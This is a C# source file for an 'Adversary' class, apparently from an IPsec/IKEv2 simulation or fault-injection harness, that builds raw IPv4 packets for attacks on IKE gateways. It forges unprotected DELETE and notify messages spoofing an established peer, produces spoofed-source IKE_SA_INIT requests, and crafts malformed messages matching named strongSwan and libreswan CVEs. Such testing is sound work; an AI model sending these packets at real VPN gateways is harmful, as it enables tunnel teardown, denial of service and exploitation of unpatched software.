using System.Buffers.Binary;
using Nodes.Crypto;
using Nodes.Ike;
using Nodes.Wire.Ike;
using Nodes.Wire.Ip;
using Nodes.Wire.Udp;

namespace Nodes.Actors.Nodes;

/// <summary>What an attack sends: whole IPv4 datagrams, and a line saying what they are (or, with none, why not).</summary>
public sealed record Salvo(IReadOnlyList<byte[]> Datagrams, string Description);

/// <summary>
/// The packets of an attacker on the internet, as real bytes: IKE_SA_INIT requests with a forged source (one key
/// exchange made once and reused, as a flooder does, with a fresh SPI and nonce per request), cleartext ICMP echo
/// requests with any addresses, unprotected notifies and DELETEs for an established IKE SA, and crafted messages of
/// known IKEv2 bug classes. It knows what anyone who watched the SA's setup on the path knows (addresses, ports, SPIs),
/// never a key. Pure: randomness is an input. Not thread-safe; one owner.
/// </summary>
public sealed class Adversary(IRandomSource random)
{
    private IkeMessage? _template;

    /// <summary>The kinds of <see cref="ForgedInformationals"/>, as the forged-informational fault names them.</summary>
    public static readonly string[] InformationalKinds = ["invalid-ike-spi", "authentication-failed", "delete"];

    /// <summary>The kinds of <see cref="Crafted"/>, as the crafted-ike fault names them.</summary>
    public static readonly string[] CraftedKinds = ["payload-length", "ke-length", "notify-spi", "responder-spi"];

    /// <summary>
    /// For every established IKE SA in <paramref name="sas"/>, unprotected INFORMATIONAL messages claiming to come from
    /// its peer (its SPIs, from the peer's endpoint to ours, on UDP 4500 with the non-ESP marker when the SA floated):
    /// an INVALID_IKE_SPI response (RFC 7296 section 2.21.4), an AUTHENTICATION_FAILED request and a DELETE of the IKE
    /// SA in clear. <paramref name="kind"/> is one of <see cref="InformationalKinds"/> or "all".
    /// </summary>
    public Salvo ForgedInformationals(IEnumerable<IkeSa> sas, string kind)
    {
        var kinds = kind == "all" ? InformationalKinds : [kind];
        var datagrams = new List<byte[]>();
        var named = new List<string>();
        foreach (var sa in sas.Where(s => s.State == IkeSaState.Established))
        {
            // The peer's messages carry the I flag when the peer is the SA's original initiator (RFC 7296 section 3.1).
            var peerFlag = sa.IsOriginalInitiator ? 0 : IkeFlags.Initiator;
            foreach (var k in kinds)
            {
                var (flags, payload) = k switch
                {
                    "invalid-ike-spi" => (peerFlag | IkeFlags.Response, (IkePayload)NotifyPayload.Status(NotifyType.InvalidIkeSpi)),
                    "authentication-failed" => (peerFlag, NotifyPayload.Status(NotifyType.AuthenticationFailed)),
                    _ => (peerFlag, DeletePayload.IkeSa()),
                };
                // Message ID 2: the first request after IKE_AUTH. A protected request is needed to move it, so any will do.
                var ike = new IkeMessage(sa.InitiatorSpi, sa.ResponderSpi, ExchangeType.Informational, flags, (flags & IkeFlags.Response) != 0 ? 0u : 2u, new[] { payload }).ToArray();
                datagrams.Add(Ike(sa.Remote, sa.Local, ike));
                named.Add(k);
            }
        }
        return datagrams.Count == 0
            ? new Salvo([], "no established IKE SA to forge notifies for")
            : new Salvo(datagrams, $"{datagrams.Count} unprotected INFORMATIONAL message(s) ({string.Join(", ", named.Distinct())}) with the SPIs of the established IKE SA(s), claiming to come from the peer");
    }

    /// <summary>
    /// Unauthenticated IKE messages of known IKEv2 bug classes, from <paramref name="from"/>:500 to <paramref name="to"/>:500,
    /// built on an IKE_SA_INIT that <paramref name="config"/>'s proposals make acceptable. <paramref name="kind"/> is one
    /// of <see cref="CraftedKinds"/> or "all":
    /// payload-length, a nonce payload whose length claims 256 bytes more than the message holds (strongSwan
    /// CVE-2023-41913 and libreswan CVE-2023-23009 were lengths believed); ke-length, key exchange data 1,024 bytes
    /// longer than the group's public value (CVE-2023-41913's trigger); notify-spi, a notify with protocol ID 1 and an
    /// 8-byte SPI (libreswan CVE-2023-38710 trusted a notify's protocol and SPI size); responder-spi, an IKE_SA_INIT
    /// request naming the SPI pair of an established SA of <paramref name="sas"/> (libreswan CVE-2023-30570).
    /// </summary>
    public Salvo Crafted(IkeSaConfig config, IEnumerable<IkeSa> sas, string kind, Ipv4Address from, Ipv4Address to)
    {
        var datagrams = new List<byte[]>();
        var named = new List<string>();
        foreach (var k in kind == "all" ? CraftedKinds : [kind])
        {
            var init = InitMessage(config, from, to);
            byte[]? ike = k switch
            {
                "payload-length" => LyingNonceLength(init.ToArray(), 256),
                "ke-length" => Replace<KeyExchangePayload>(init, ke => new KeyExchangePayload(ke.Group, OctetString.Copy([.. new byte[1024], .. ke.Data.Span]))).ToArray(),
                "notify-spi" => new IkeMessage(init.InitiatorSpi, 0, ExchangeType.IkeSaInit, IkeFlags.Initiator, 0,
                    init.Payloads.Append(new NotifyPayload(IkeProtocolId.Ike, OctetString.Copy(SpiOctets(init.InitiatorSpi)), NotifyType.RekeySa, default)).ToArray()).ToArray(),
                _ => sas.FirstOrDefault(s => s.State == IkeSaState.Established) is { } sa
                    ? new IkeMessage(sa.InitiatorSpi, sa.ResponderSpi, ExchangeType.IkeSaInit, IkeFlags.Initiator, 0, init.Payloads).ToArray()
                    : null,
            };
            if (ike is null) continue;
            datagrams.Add(Ike(new Ipv4Endpoint(from, 500), new Ipv4Endpoint(to, 500), ike));
            named.Add(k);
        }
        return datagrams.Count == 0
            ? new Salvo([], $"nothing to send: {kind} needs an established IKE SA")
            : new Salvo(datagrams, $"{datagrams.Count} crafted IKE message(s) ({string.Join(", ", named)}) claiming to come from {from}:500 sent to {to}:500");
    }

    /// <summary>An IKE_SA_INIT with a fresh SPI and nonce, as <see cref="IkeSaInit"/> sends it.</summary>
    private IkeMessage InitMessage(IkeSaConfig config, Ipv4Address from, Ipv4Address to)
    {
        if (_template is null)
        {
            using var sa = IkeSa.CreateInitiator(config with { Name = "adversary" }, new IkeEnvironment(random), new Ipv4Endpoint(from, 500), new Ipv4Endpoint(to, 500));
            sa.Start(DateTimeOffset.UnixEpoch);
            var bytes = sa.TakeOutputs().OfType<IkeSend>().First().Message;
            IkeMessage.TryParse(bytes, out _template, out _);
        }
        Span<byte> spi = stackalloc byte[8];
        random.Fill(spi);
        var nonce = new byte[32];
        random.Fill(nonce);
        var payloads = _template!.Payloads.Select(p => p is NoncePayload ? new NoncePayload(OctetString.Copy(nonce)) : p).ToArray();
        return new IkeMessage(BinaryPrimitives.ReadUInt64BigEndian(spi) | 1, 0, ExchangeType.IkeSaInit, IkeFlags.Initiator, 0, payloads);
    }

    private static IkeMessage Replace<T>(IkeMessage m, Func<T, IkePayload> change) where T : IkePayload =>
        m with { Payloads = m.Payloads.Select(p => p is T t ? change(t) : p).ToArray() };

    /// <summary>The message with its nonce payload's length field raised by <paramref name="extra"/>: it now claims bytes beyond the message.</summary>
    private static byte[] LyingNonceLength(byte[] ike, int extra)
    {
        // RFC 7296 section 3.2: each payload starts with next payload (1), flags (1) and its length (2), big endian.
        var type = (IkePayloadType)ike[IkeHeader.Field.NextPayload];
        var offset = IkeHeader.Size;
        while (type != IkePayloadType.Nonce && offset + 4 <= ike.Length)
        {
            type = (IkePayloadType)ike[offset];
            offset += BinaryPrimitives.ReadUInt16BigEndian(ike.AsSpan(offset + 2));
        }
        var length = BinaryPrimitives.ReadUInt16BigEndian(ike.AsSpan(offset + 2));
        BinaryPrimitives.WriteUInt16BigEndian(ike.AsSpan(offset + 2), (ushort)(length + extra));
        return ike;
    }

    private static byte[] SpiOctets(ulong value)
    {
        var b = new byte[8];
        BinaryPrimitives.WriteUInt64BigEndian(b, value);
        return b;
    }

    /// <summary>An IKE message as a UDP datagram, behind the non-ESP marker on port 4500 (RFC 3948 section 2.2).</summary>
    private byte[] Ike(Ipv4Endpoint from, Ipv4Endpoint to, byte[] ike)
    {
        var payload = to.Port == UdpPorts.IkeNatTraversal ? [0, 0, 0, 0, .. ike] : ike;
        var datagram = new byte[Ipv4PacketWriter.UdpDatagramLength(payload.Length)];
        Ipv4PacketWriter.WriteUdp(datagram, new Ipv4Template(from.Address, to.Address, NextId(), 64), from.Port, to.Port, payload, UdpChecksumMode.Compute);
        return datagram;
    }

    /// <summary>
    /// An IKE_SA_INIT from <paramref name="from"/>:500 to <paramref name="to"/>:500 that <paramref name="config"/>'s
    /// proposals make acceptable to the gateway, as a whole IPv4 datagram.
    /// </summary>
    public byte[] IkeSaInit(IkeSaConfig config, Ipv4Address from, Ipv4Address to) =>
        Ike(new Ipv4Endpoint(from, 500), new Ipv4Endpoint(to, 500), InitMessage(config, from, to).ToArray());

    /// <summary>An ICMP echo request from <paramref name="source"/> to <paramref name="destination"/>, in clear.</summary>
    public byte[] Echo(Ipv4Address source, Ipv4Address destination, ushort sequence)
    {
        var packet = new byte[Ipv4Header.MinLength + 8 + 32];
        var n = Ipv4PacketWriter.WriteIcmpEcho(packet, new Ipv4Template(source, destination, NextId(), 64), reply: false, 0x6666, sequence, new byte[32]);
        return packet[..n];
    }

    private ushort NextId()
    {
        Span<byte> b = stackalloc byte[2];
        random.Fill(b);
        return BinaryPrimitives.ReadUInt16BigEndian(b);
    }
}
